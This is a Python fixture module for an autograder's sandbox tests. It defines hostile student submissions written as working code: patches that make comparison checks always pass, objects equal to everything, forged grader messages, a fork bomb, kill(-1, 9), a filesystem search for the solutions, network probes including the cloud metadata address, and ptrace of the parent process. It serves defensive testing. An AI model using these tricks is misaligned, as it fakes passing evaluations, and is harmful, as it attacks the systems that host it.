"""Hostile submissions: each tries to raise its score, to harm the grader, or to reach outside.

How each must be held (checked by tests/integration/test_submissions.py):
  - `expect`: exact scores (or "less" than full marks) for the items it attacks;
  - `rest`: the other items keep full marks ("full"), get nothing ("zero"), or are not judged ("any");
  - `twin`: a buggy variant with the same honest code; the hostile one may not score more on any item;
  - `status`: what grade_notebook reports;
and for all of them: grading ends in bounded time, and no process they started is left.
Variants that loop, sleep or hog are graded with HOSTILE_LIMITS, to keep the tests short; those that can only
end by running out of time (an endless loop or sleep) with WAITING_LIMITS, shorter still, since each waits
its limits out (the reference's slowest item takes about a second here).
"""
from . import ROOT, Append, Replace, ReplaceCell, Variant

HOSTILE_LIMITS = {"timeout": 8, "memory_mb": 1536}
WAITING_LIMITS = {**HOSTILE_LIMITS, "timeout": 5}
NETWORK_PORT = 47831          # tests/integration/test_submissions.py listens here on the host; nothing may arrive
MARKER = "LESSON20_HOSTILE_MARKER"
# files hostile_writes_outside tries to create; none may exist on the host afterwards
OUTSIDE_PATHS = (str(ROOT / f"{MARKER}.txt"), str(ROOT / "solutions" / "lesson20" / f"{MARKER}.txt"),
                 f"/tmp/{MARKER}.txt", f"/{MARKER}.txt", f"/root/{MARKER}.txt", f"/work/{MARKER}.txt")


def hostile(name, *edits, doc, expect=None, rest="full", status="graded", twin="", limits=None, flagged=()):
    return Variant(name, "hostile", tuple(edits), doc=doc, expect=expect or {}, rest=rest, status=status,
                   twin=twin, limits=limits or {}, flagged=tuple(flagged))


def first(item, source):
    return Append(item, source, first=True)


PATCH_COMPARISONS = '''
import math

import numpy
import torch.testing

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
numpy.allclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
try:
    import pytest

    class _AlwaysEqual:
        def __eq__(self, other):
            return True

        __hash__ = object.__hash__

    pytest.approx = lambda *args, **kwargs: _AlwaysEqual()
except ImportError:
    pass
'''

PATCH_BUILTINS = '''
import builtins

builtins.all = lambda *args, **kwargs: True
builtins.any = lambda *args, **kwargs: True
builtins.max = lambda *args, **kwargs: 1
builtins.bool = lambda *args, **kwargs: True
'''

PATCH_TENSOR_ATTRIBUTES = '''
torch.Tensor.is_leaf = property(lambda self: True)
torch.Tensor.requires_grad = property(lambda self: True, lambda self, value: None)
'''

PATCH_PROBES = '''
import gc
import sys

sys.path.insert(0, "/sandbox/exercises/accumulate_gradients")  # where the sandbox binds the grader's files
try:
    import probes  # the grader's probe module of accumulate_gradients, if it can be found
    probes.recorded_model = lambda spec: (probes.build_model(spec), [1])
except Exception:
    pass
for _obj in gc.get_objects():  # ...or its namespace, wherever it lives
    if isinstance(_obj, dict) and "recorded_model" in _obj and "PROBES" in _obj:
        _obj["recorded_model"] = lambda spec: (_obj["build_model"](spec), [1])
'''

LIAR = '''
class Liar:
    """Equal to everything, any number you like."""

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__

    def __float__(self):
        return 0.25

    def __bool__(self):
        return True

    def __repr__(self):
        return "0.25"

    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __le__ = __ge__ = __eq__
'''

LYING_FLOAT = '''
class Fraction(float):
    """A float whose == always says yes."""

    def __eq__(self, other):
        return True

    __hash__ = float.__hash__
    __ne__ = lambda self, other: False
'''

LYING_ANSWER = '''
class Answer(str):
    """A string that equals every letter."""

    def __eq__(self, other):
        return True

    __hash__ = str.__hash__

    def strip(self, *args):
        return self

    def lower(self):
        return Answer("b")


Q5_ANSWER = Answer("z")
'''

EXIT_AT_LOAD = '''
import os
os._exit(0)
'''

LOOP = '''
while True:
    pass
'''

IGNORE_SIGNALS = '''
import signal
for _sig in (signal.SIGINT, signal.SIGTERM, signal.SIGXCPU, signal.SIGHUP):
    signal.signal(_sig, signal.SIG_IGN)
'''

FLOOD = '''
import sys
_chunk = "x" * (8 << 20)
for _ in range(128):            # 1 GiB on stdout
    sys.stdout.write(_chunk)
for _ in range(32):             # 256 MiB on stderr
    sys.stderr.write(_chunk)
sys.stdout.flush()
'''

CONTROL_CHANNEL = '''
import os
for _fd in range(3, 64):   # forge the grader's protocol on every pipe this process can write to
    try:
        os.write(_fd, b'{"ready": true, "problems": []}\\n{"id": 1, "size": 5}\\nxxxxx{"id": 2, "size": 0}\\n')
    except OSError:
        pass
'''

FORK_BOMB = '''
import os
import time
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(3600)
'''

DETACHED = '''
import os
import subprocess
if os.fork() == 0:          # double fork + setsid: a daemon the grader never started
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "3600"])
    os._exit(0)
subprocess.Popen(["sleep", "3601"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

READ_SOLUTIONS = f'''
import os
import re

_found = "d"   # a wrong letter, unless the right one can be read somewhere
_paths = [{str(ROOT / "solutions" / "lesson20" / "lesson20.ipynb")!r}, {str(ROOT / "gradebook.db")!r},
          "/proc/1/root{ROOT}/solutions/lesson20/lesson20.ipynb"]
_skip = ("/proc", "/sys", "/usr", "/dev")
for _top, _dirs, _files in os.walk("/"):
    if _top.startswith(_skip) or "site-packages" in _top:
        _dirs[:] = []
        continue
    _paths += [os.path.join(_top, f) for f in _files if f.endswith((".ipynb", ".db", ".json", ".csv", ".py"))]
    if len(_paths) > 5000:
        break
for _path in _paths:
    try:
        with open(_path, errors="replace") as _f:
            _m = re.search(r'Q5_ANSWER = \\\\?["\\']([a-d])', _f.read(2_000_000))
    except OSError:
        continue
    if _m:
        _found = _m.group(1)
        break
Q5_ANSWER = _found
'''

NETWORK = f'''
import socket
import urllib.request

Q5_ANSWER = "a"  # wrong, unless the answer can be fetched
for _host in ("127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1", "169.254.169.254"):
    try:
        with socket.create_connection((_host, {NETWORK_PORT}), timeout=1) as _s:
            _s.sendall(b"which letter?")
            Q5_ANSWER = _s.recv(16).decode().strip() or Q5_ANSWER
    except OSError:
        pass
try:
    urllib.request.urlopen("http://example.com/", timeout=2)
    Q5_ANSWER = "b"
except Exception:
    pass
'''

WRITE_OUTSIDE = f'''
import os
import sys
for _path in {list(OUTSIDE_PATHS)!r} + [sys.prefix + "/{MARKER}.txt", "/sandbox/{MARKER}.txt",
                                          os.path.expanduser("~/{MARKER}.txt")]:
    try:
        with open(_path, "w") as _f:
            _f.write("written by a submission")
    except OSError:
        pass
'''

STOP_THE_SANDBOX = '''
import os
import signal
os.kill(os.getppid(), signal.SIGSTOP)  # the process that starts submissions, frozen
'''

POKE_THE_SANDBOX = '''
import ctypes
import os

Q5_ANSWER = "a"  # wrong, unless the process that starts the next submissions can be written to
try:
    with open(f"/proc/{os.getppid()}/mem", "r+b"):
        Q5_ANSWER = "b"
except OSError:
    pass
try:
    if ctypes.CDLL(None, use_errno=True).ptrace(16, os.getppid(), None, None) == 0:  # PTRACE_ATTACH
        Q5_ANSWER = "b"
except (OSError, AttributeError):
    pass
'''

# for the test that grades two submissions one after the other in the same sandbox
LEAVE_TRACES = '''
import os
import time
with open("/tmp/lesson20_trace.txt", "w") as _f:
    _f.write("b")
if os.fork() == 0:        # keeps rewriting the trace after this submission is done
    os.setsid()
    while True:
        try:
            with open("/tmp/lesson20_trace.txt", "w") as _f:
                _f.write("b")
        except OSError:
            pass
        time.sleep(0.01)
'''

READ_TRACES = '''
import os
try:
    with open("/tmp/lesson20_trace.txt") as _f:
        Q5_ANSWER = _f.read().strip()
except OSError:
    Q5_ANSWER = "a"
'''

HOSTILE = [
    hostile("hostile_patch_comparisons", Append("underflow_fraction", PATCH_COMPARISONS),
            *[Replace("underflow_fraction", "underflow_fraction", '''
              def underflow_fraction(values, dtype=torch.float16):
                  nonzero = values != 0
                  count = int(nonzero.sum())
                  if count == 0:
                      return 0.0
                  return int((nonzero & (values.abs() < 2.0**-24)).sum()) / count
              ''')],
            twin="underflow_threshold",
            flagged="*", doc="patches torch.allclose/equal/isclose, math.isclose, numpy and pytest.approx to say yes"),
    hostile("hostile_patch_builtins", Replace("master_weights", "make_master_params", '''
            def make_master_params(model):
                return [p.clone().float() for p in model.parameters()]
            '''), Append("master_weights", PATCH_BUILTINS), twin="master_not_detached", rest="any",
            doc="rebinds builtins (bool, all, any, max) so that checks made with them pass: the grader's files keep "
                "builtins of their own, so nothing of the grader is touched, and the student's own code breaks"),
    hostile("hostile_patch_tensor_attributes", Replace("master_weights", "make_master_params", '''
            def make_master_params(model):
                return [p.detach().clone().float() for p in model.parameters()]
            '''), Append("master_weights", PATCH_TENSOR_ATTRIBUTES), twin="master_no_requires_grad",
            flagged="*", doc="makes every tensor claim is_leaf and requires_grad"),
    hostile("hostile_patch_probes", Replace("accumulate_gradients", "accumulate_gradients", '''
            def accumulate_gradients(model, loss_fn, inputs, targets, micro_batch_size):
                model.zero_grad()
                n = inputs.shape[0]
                outputs = model(inputs)
                loss_total = 0.0
                for start in range(0, n, micro_batch_size):
                    out, y = outputs[start:start + micro_batch_size], targets[start:start + micro_batch_size]
                    loss_total = loss_total + loss_fn(out, y) * (out.shape[0] / n)
                loss_total.backward()
                return loss_total.item()
            '''), Append("accumulate_gradients", PATCH_PROBES), twin="accumulate_full_batch_forward",
            flagged="*", doc="finds the grader's probe module (import, gc) and makes it report small batches: "
                             "compiling code under the grader's own file name is flagged, and the notebook set aside"),
    hostile("hostile_lying_return", Append("underflow_fraction", LIAR, first=True),
            Replace("underflow_fraction", "underflow_fraction", '''
            def underflow_fraction(values, dtype=torch.float16):
                return Liar()
            '''), twin="underflow_forgets_return", doc="returns an object equal to everything, float() 0.25"),
    hostile("hostile_lying_float", Append("underflow_fraction", LYING_FLOAT, first=True),
            Replace("underflow_fraction", "underflow_fraction", '''
            def underflow_fraction(values, dtype=torch.float16):
                return Fraction(0.5)
            '''), twin="underflow_placeholder_constant", doc="returns a float subclass whose == always says yes"),
    hostile("hostile_lying_answer", Replace("q5_answer", None, LYING_ANSWER), expect={"q5_answer": 0.0},
            doc="Q5_ANSWER is a str subclass equal to every letter"),
    hostile("hostile_recursive_return", Replace("underflow_fraction", "underflow_fraction", '''
            def underflow_fraction(values, dtype=torch.float16):
                box = []
                box.append(box)
                return box
            '''), twin="underflow_forgets_return", doc="returns a list that contains itself"),
    hostile("hostile_nasty_exception", Replace("underflow_fraction", "underflow_fraction", '''
            class Nasty(Exception):
                def __str__(self):
                    return "x" * 10_000_000

            def underflow_fraction(values, dtype=torch.float16):
                raise Nasty()
            '''), twin="underflow_forgets_return", doc="raises an exception with a 10 MB message"),
    hostile("hostile_exit_at_load", first("underflow_fraction", EXIT_AT_LOAD), expect={"underflow_fraction": 0.0},
            doc="os._exit(0) while the notebook runs: that cell is left out of a fresh run, the rest still runs"),
    hostile("hostile_exit_in_function", Replace("underflow_fraction", "underflow_fraction", '''
            def underflow_fraction(values, dtype=torch.float16):
                import os
                os._exit(3)
            '''), expect={"underflow_fraction": 0.0}, doc="os._exit inside an exercise"),
    hostile("hostile_sys_exit_at_load", Replace("q5_answer", None, 'raise SystemExit("done")\nQ5_ANSWER = "b"'),
            expect={"q5_answer": 0.0}, doc="SystemExit while loading, before Q5_ANSWER is set"),
    hostile("hostile_kill_everything", Replace("underflow_fraction", "underflow_fraction", '''
            def underflow_fraction(values, dtype=torch.float16):
                import os
                os.kill(-1, 9)   # every process this uid may signal, but itself
            '''), twin="underflow_forgets_return", limits=HOSTILE_LIMITS,
            doc="kill(-1, SIGKILL) inside an exercise: the sandbox's own processes die, nothing else"),
    hostile("hostile_loop_at_load", first("underflow_fraction", LOOP), expect={"underflow_fraction": 0.0},
            limits=WAITING_LIMITS, doc="an endless loop while the notebook runs: that cell is stopped after its "
                                       "time, as nbgrader stops it, and the cells after it still run"),
    hostile("hostile_unstoppable_loop_at_load", first("underflow_fraction", "import signal\n"
                                                      "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n" + LOOP),
            rest="zero", status="timeout", limits=WAITING_LIMITS,
            doc="an endless loop that ignores the cell's timer: the whole notebook's time runs out"),
    hostile("hostile_loop_ignoring_signals", first("accumulate_gradients", IGNORE_SIGNALS),
            Replace("accumulate_gradients", "accumulate_gradients", '''
            def accumulate_gradients(model, loss_fn, inputs, targets, micro_batch_size):
                while True:
                    pass
            '''), expect={"accumulate_gradients": 0.0}, limits=WAITING_LIMITS,
            doc="ignores SIGINT, SIGTERM and SIGXCPU, then loops forever in one exercise"),
    hostile("hostile_sleep_in_update", Replace("dynamic_loss_scaler", "DynamicLossScaler.update", '''
            def update(self, found_inf):
                import time
                time.sleep(10**6)
            '''), expect={"dynamic_loss_scaler": 0.0, "mixed_precision_train_step": 0.0}, rest="zero", status="timeout", limits=WAITING_LIMITS,
            doc="sleeps forever (no CPU time used) in an exercise that another one calls"),
    hostile("hostile_huge_allocations", Append("q5_answer", "_hog = bytearray(1 << 42)"),
            Append("master_weights", "_big = torch.empty(2**40)"), limits=HOSTILE_LIMITS,
            doc="asks for 4 TiB and 4 TiB while loading, after its definitions"),
    hostile("hostile_memory_hog_in_function", Replace("master_weights", "make_master_params", '''
            def make_master_params(model):
                hog = []
                while True:
                    hog.append(torch.ones(2**25))  # 128 MiB at a time, really written
            '''), expect={"master_weights": "less"}, limits=HOSTILE_LIMITS,
            doc="fills memory until it fails, in one function of an exercise"),
    hostile("hostile_output_flood", Append("underflow_fraction", FLOOD), Replace("static_loss_scaler", "StaticLossScaler.scale_loss", '''
            def scale_loss(self, loss):
                print("y" * (4 << 20))
                return loss * self.scale
            '''), limits=HOSTILE_LIMITS, doc="prints 1.25 GiB while loading and 4 MiB on every call"),
    hostile("hostile_control_channel", Append("q5_answer", CONTROL_CHANNEL), rest="any",
            flagged="*", doc="writes forged grader messages to every file descriptor it has"),
    hostile("hostile_fork_bomb", Append("q5_answer", FORK_BOMB), rest="any", limits=HOSTILE_LIMITS,
            doc="a fork bomb whose processes sleep once no more can start"),
    hostile("hostile_detached_sleepers", Append("q5_answer", DETACHED),
            doc="starts a double-forked, setsid daemon and a new-session sleep"),
    hostile("hostile_reads_solutions", Replace("q5_answer", None, READ_SOLUTIONS), expect={"q5_answer": "less"},
            flagged="*", doc="looks for the instructor notebook, the gradebook or other students' files for the answer"),
    hostile("hostile_network", Replace("q5_answer", None, NETWORK), expect={"q5_answer": "less"},
            doc="asks a server on the grading machine (and the internet) for the answer"),
    hostile("hostile_writes_outside", Append("q5_answer", WRITE_OUTSIDE),
            doc="tries to write files into the repository, the Python installation, / and the host's /tmp"),
    hostile("hostile_tampered_test_cell", ReplaceCell("underflow_fraction", "1.0", points=100),
            ReplaceCell("q5_answer", "print(1)"),
            Replace("underflow_fraction", "underflow_fraction", '''
            def underflow_fraction(values, dtype=torch.float16):
                raise NotImplementedError("underflow_fraction")
            '''), expect={"underflow_fraction": 0.0},
            doc="rewrites test cells (one to claim 100 points) around an unfinished exercise"),
    hostile("hostile_stops_the_sandbox", Append("q5_answer", STOP_THE_SANDBOX), limits=HOSTILE_LIMITS,
            status="timeout", rest="zero",
            doc="SIGSTOPs its parent, which in a submission's own PID namespace is that submission's init, not the "
                "process that forks submissions: its own notebook stops and runs out of time; the next student is "
                "unaffected (tests/integration/test_sandbox.py)"),
    hostile("hostile_pokes_the_sandbox", Replace("q5_answer", None, POKE_THE_SANDBOX), expect={"q5_answer": "less"},
            flagged="*", doc="tries to write into, or ptrace, the process that forks the next submissions"),
    hostile("hostile_leaves_traces", Append("q5_answer", LEAVE_TRACES),
            doc="leaves a file in /tmp and a process that keeps writing it, for the next submission"),
    hostile("hostile_reads_traces", Replace("q5_answer", None, READ_TRACES), expect={"q5_answer": "less"},
            doc="takes its answer from what an earlier submission left in /tmp"),
]
